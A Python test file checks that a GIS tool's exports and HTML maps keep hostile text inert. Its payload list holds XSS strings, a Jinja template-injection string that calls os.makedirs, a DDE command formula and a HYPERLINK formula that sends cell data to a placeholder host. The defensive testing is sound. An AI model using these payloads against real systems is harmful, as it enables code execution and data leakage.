"""Hostile text through every text field into every output: the text comes back as the same text,
and nothing runs — no template is evaluated, no markup is rendered, no formula is live.

Site fields (name, owner, mineral, an extra field, and ids where ids allow it) and a rule-table
label carry HTML, ``</script>``, Jinja ``{{ }}``/``{% %}``/``{#``, spreadsheet ``= + - @``, tab and
CR, quotes, backslashes, U+2028, zero-width and full-width characters, emoji and characters
outside GBK.
"""

from __future__ import annotations

import csv
import json
import os
import re
from pathlib import Path

import openpyxl
import pyogrio
import pytest
import yaml
from browser_helpers import open_offline
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import ordos_geo as og
from ordos_geo import cli

PWN_DIR = "PWNED_BY_TEMPLATE"
NASTY = [
    '<img src=x onerror="window.__pwned=1">',
    "</script><script>window.__pwned=1</script>",
    "<!--",
    "{{7*7}}",
    "{{cycler.__init__.__globals__.os.makedirs(dict(PWNED_BY_TEMPLATE=1)|first,exist_ok=true)}}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{# a comment",
    "{%",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "it's \"quoted\"",
    "back\\slash \\n \\u0041",
    "line\u2028separator\u2029para",
    "zero\u200bwidth\u200djoin",
    "ｆｕｌｌ　ｗｉｄｔｈ",
    "emoji 🙂 and 𠀀 outside GBK",
    "plain 中文 名称",
]
#: Ids may not hold ';' or control characters, and are normalised (NFKC, no invisible
#: characters): these come back exactly.
NASTY_IDS = ["{{7*7}}", "<b>id</b>", "=1+1", "+A", "-B", "@C", "'=D", "x\"y'z", "a\\b",
             "🙂-1", "𠀀-2", "{% x %}", "{#c", "</script>"]
TEXT_FIELDS = ("name", "owner", "mineral", "备注")


def _square(k: int, d: float = 0.002):
    lon, lat = 111.10 + (k % 10) * 0.01, 39.75 + (k // 10) * 0.01
    return {"type": "Polygon", "coordinates": [[[lon, lat], [lon + d, lat], [lon + d, lat + d],
                                                [lon, lat + d], [lon, lat]]]}


def hostile_sites(tmp: Path) -> Path:
    features = []
    for k, text in enumerate(NASTY):
        site_id = NASTY_IDS[k] if k < len(NASTY_IDS) else f"N{k:02d}"
        props = {"site_id": site_id, "kind": "mine", "banner": "准格尔旗", "status": "ownerless",
                 "method": "open_pit", **{f: text for f in TEXT_FIELDS}}
        features.append({"type": "Feature", "geometry": _square(k), "properties": props})
    path = tmp / "hostile.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features},
                               ensure_ascii=False), encoding="utf-8")
    return path


def hostile_rules(tmp: Path) -> Path:
    spec = yaml.safe_load(og.rules.default_rules_text())
    for k, use in enumerate(spec["end_uses"].values()):
        use["zh"] = use["en"] = NASTY[k % len(NASTY)]
    path = tmp / "rules.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    return path


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _no_live_formula(cells) -> None:
    for c in cells:
        assert not re.match(r"^[=+\-@\t\r]", c) or re.match(r"^-?\d", c), c


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    sites = hostile_sites(tmp)
    here = os.getcwd()
    os.chdir(tmp)  # a template that ran would create PWNED_BY_TEMPLATE here
    try:
        argv = [["zones", sites, "--rules", hostile_rules(tmp), "--out", tmp / "z"],
                ["export", sites, "--format", "geojson", "--out", tmp / "e" / "s.geojson"],
                ["export", sites, "--format", "gpkg", "--out", tmp / "e" / "s.gpkg"],
                ["export", sites, "--format", "shp", "--out", tmp / "e" / "s.shp"],
                ["export", sites, "--format", "shp", "--out-encoding", "GBK",
                 "--out", tmp / "e" / "gbk.shp"],
                ["export", sites, "--format", "xlsx", "--out", tmp / "e" / "s.xlsx"],
                ["map", sites, "--out", tmp / "m" / "overview.html"],
                ["map", sites, "--zones", tmp / "z" / "zones.geojson",
                 "--out", tmp / "m" / "zones.html"]]
        for args in argv:
            assert cli.main([str(a) for a in args]) == 0, args
    finally:
        os.chdir(here)
    return tmp


def test_no_template_ran_anywhere(outputs):
    assert not (outputs / PWN_DIR).exists()
    assert not Path(PWN_DIR).exists()
    pages = sorted((outputs / "m").glob("*.html"))
    assert len(pages) == 2
    for page in pages:
        text = page.read_text("utf-8")
        data = text.split('id="ordos-data">', 1)[1].split("</script>", 1)[0]
        spec = json.loads(data)  # the data block is whole: no value ended the element early
        shown = json.dumps(spec, ensure_ascii=False)
        assert "{{7*7}}" in shown and "{% for x in range(3) %}loop{% endfor %}" in shown
        assert "looplooploop" not in text  # the Jinja loop did not run


@pytest.mark.parametrize("name", ["s.geojson", "s.gpkg", "s.shp"])
def test_gis_exports_give_the_same_text_back(outputs, name):
    frame = pyogrio.read_dataframe(outputs / "e" / name,
                                   layer="sites" if name.endswith(".gpkg") else None)
    for field in ("name", "owner", "mineral"):
        assert sorted(frame[field]) == sorted(NASTY), (name, field)
    assert set(NASTY_IDS) <= set(frame["site_id"])


def test_a_gbk_shapefile_keeps_what_gbk_holds_and_names_the_rest(outputs):
    frame = pyogrio.read_dataframe(outputs / "e" / "gbk.shp", encoding="GBK")
    back = dict(zip(frame["site_id"], frame["name"]))
    for k, text in enumerate(NASTY):
        try:
            text.encode("gbk")
            fits = True
        except UnicodeEncodeError:
            fits = False
        site_id = NASTY_IDS[k] if k < len(NASTY_IDS) else f"N{k:02d}"
        key = site_id if site_id in back else site_id.encode("gbk", "replace").decode("gbk")
        assert (back[key] == text) == fits, (text, back[key])


def test_xlsx_cells_are_text_never_formulas(outputs):
    wb = openpyxl.load_workbook(outputs / "e" / "s.xlsx")
    ws = wb.active
    values = [c.value for row in ws.iter_rows() for c in row]
    types = {c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert types == {"s"}
    for text in NASTY:  # XML reads a carriage return as a line feed (documented)
        assert text.replace("\r", "\n") in values, text


def test_csv_outputs_neutralise_formulas_and_read_back_the_same(outputs):
    zones_csv = outputs / "z" / "zones.csv"
    cells = _cells(zones_csv)
    _no_live_formula(cells)
    table, _ = og.io.read_table(zones_csv)
    labels = set(table["end_use_label"])
    assert labels <= set(NASTY) and labels  # the rule labels came back as written


def test_the_maps_show_hostile_text_as_text(outputs, browser):
    for page_path in sorted((outputs / "m").glob("*.html")):
        page, errors, external, dialogs = open_offline(browser, page_path)
        shown = page.evaluate("""() => { var out = [];
            ['mines', 'parcels', 'zones'].forEach(function (k) {
              var layer = window.ordosLayers[k]; if (!layer) return;
              layer.eachLayer(function (l) { var el = window.ordosOpenTooltip(l);
                out.push(el.textContent);
                if (el.querySelector('img, script')) out.push('MARKUP'); layer.closeTooltip(); });
            });
            var legend = Array.from(document.querySelectorAll('.ordos-legend'))
                .map(e => e.textContent).join('\\n');
            return {tips: out, legend: legend, pwned: window.__pwned === undefined ? null : 1}; }""")
        assert shown["pwned"] is None and dialogs == [], page_path.name
        assert "MARKUP" not in shown["tips"]
        text = "\n".join(shown["tips"])
        for nasty in NASTY:
            assert nasty in text, (page_path.name, nasty)
        if page_path.name == "zones.html":
            assert any(n in shown["legend"] for n in NASTY)
        assert errors == [] and external == [], (errors, external)
        page.close()


# --- properties over any text --------------------------------------------------------------------
TEXT = st.one_of(st.sampled_from(NASTY),
                 st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))


@given(text=TEXT)
@settings(max_examples=300, deadline=None)
def test_any_text_stays_inert_in_the_page_json(text):
    """The JSON block of a page holds no '<', '>' or '&' and parses back to the same text."""
    block = og.maps.page_json({"t": [text]})
    assert not set("<>&\u2028\u2029") & set(block)
    assert json.loads(block) == {"t": [text]}


@given(texts=st.lists(TEXT, min_size=1, max_size=5))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_round_trips_through_csv_without_a_live_formula(texts, tmp_path):
    import pandas as pd

    frame = pd.DataFrame({"text": texts, "n": range(len(texts))})
    path = og.io.write_csv(frame, tmp_path / "t.csv")
    _no_live_formula(_cells(path)[2:])  # header, then the cells
    back, _ = og.io.read_table(path)
    expected = [t.replace("\r\n", "\n").replace("\r", "\n") for t in texts]
    assert [t.replace("\r\n", "\n").replace("\r", "\n") for t in back["text"]] == expected


@given(texts=st.lists(TEXT, min_size=1, max_size=5))
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_is_a_text_cell_in_xlsx(texts, tmp_path):
    import pandas as pd
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    path = og.io.write_xlsx(pd.DataFrame({"text": texts}), tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(path).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    for cell, text in zip(cells, texts):
        if text == "":
            assert cell.value is None
            continue
        assert cell.data_type == "s"
        expected = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
        assert cell.value == expected.replace("\r\n", "\n").replace("\r", "\n")


def test_text_a_gbk_shapefile_cannot_hold_is_named_by_feature_and_field(tmp_path, caplog):
    sites, _ = og.sites.read_sites(hostile_sites(tmp_path))
    with caplog.at_level("WARNING", logger="ordos_geo"):
        og.io.write_shapefile(sites, tmp_path / "g.shp", encoding="GBK")
    lost = [(r.site_id, r.name) for r in sites.itertuples() if _not_gbk(r.name)]
    assert lost
    for site_id, _ in lost:
        assert any(site_id in m and "name" in m and "GBK" in m for m in caplog.messages), site_id
    long = sites.assign(name="长" * 200)  # 400 bytes in GBK
    with caplog.at_level("WARNING", logger="ordos_geo"):
        og.io.write_shapefile(long, tmp_path / "long.shp", encoding="GBK")
    full = og.io.read_table(tmp_path / "long.fulltext.csv")[0]
    assert set(full["text"]) == {"长" * 200} and set(full["field"]) == {"name"}


def _not_gbk(text: str) -> bool:
    try:
        text.encode("gbk")
    except UnicodeEncodeError:
        return True
    return False
